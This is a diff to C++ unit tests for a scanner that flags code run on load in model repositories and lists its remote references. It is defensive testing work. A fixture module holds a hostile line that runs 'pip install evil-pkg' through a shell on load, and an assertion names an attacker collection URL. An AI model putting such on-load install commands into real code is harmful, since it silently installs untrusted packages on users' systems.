@@ -52,9 +52,12 @@ TEST(OnLoad, MaliciousSamplePayloadRunsOnLoadThroughThreeCalls) {
                    "kernels_lumi.py:73: calls 'kernels_lumi._compile'"}));
   ASSERT_EQ(result.repositories.size(), 1u);
   const RepositorySummary& repo = result.repositories[0];
-  ASSERT_EQ(repo.remote_references.size(), 1u);
+  ASSERT_EQ(repo.remote_references.size(), 2u);
   EXPECT_EQ(repo.remote_references[0].kind, "repo");
   EXPECT_EQ(repo.remote_references[0].target, "other-org/helper-repo");
+  EXPECT_EQ(repo.remote_references[1].kind, "url");
+  EXPECT_EQ(repo.remote_references[1].target, "https://attacker.invalid/collect");
+  EXPECT_TRUE(repo.remote_references[1].declared_in.ends_with("kernels_lumi.py"));
   EXPECT_GE(repo.on_load_findings[static_cast<int>(Severity::high)], 1u);
   // On-load findings come first.
   EXPECT_EQ(result.findings.front().on_load, OnLoad::yes);
@@ -137,6 +140,26 @@ TEST(OnLoad, ConventionEntriesPointAtTheirOwnModule) {
   ASSERT_EQ(f->on_load, OnLoad::yes);
   ASSERT_FALSE(f->load_chain.empty());
   EXPECT_TRUE(f->load_chain.front().file.ends_with("modeling_a.py")) << f->load_chain.front().file;
+}
+
+TEST(OnLoad, RemoteReferencesInTheStringsOfCodeThatRunsOnLoad) {
+  const Tree tree({{"config.json", R"({"auto_map": {"AutoModel": "modeling_m.M"}})"},
+                   {"modeling_m.py",
+                    "import subprocess\n"
+                    "# https://in-a-comment.example/ is not a reference\n"
+                    "URL = 'https://example.invalid/weights.bin'\n"
+                    "subprocess.run('pip install evil-pkg==1.0 && echo', shell=True)\n"
+                    "AGAIN = \"https://example.invalid/weights.bin\"\n"
+                    "class M:\n"
+                    "    pass\n"},
+                   {"train.py", "URL = 'https://not-loaded.invalid/'\n"}});
+  const ScanResult result = scan(tree.root());
+  ASSERT_EQ(result.repositories.size(), 1u);
+  std::vector<std::string> refs;
+  for (const auto& r : result.repositories[0].remote_references) {
+    refs.push_back(r.kind + " " + r.target + " " + std::to_string(r.position.line) + ":" + std::to_string(r.position.column));
+  }
+  EXPECT_EQ(refs, (std::vector<std::string>{"url https://example.invalid/weights.bin 3:8", "pip evil-pkg==1.0 4:29"}));
 }
 
 TEST(OnLoad, OutsideAModelRepositoryNothingIsMarked) {
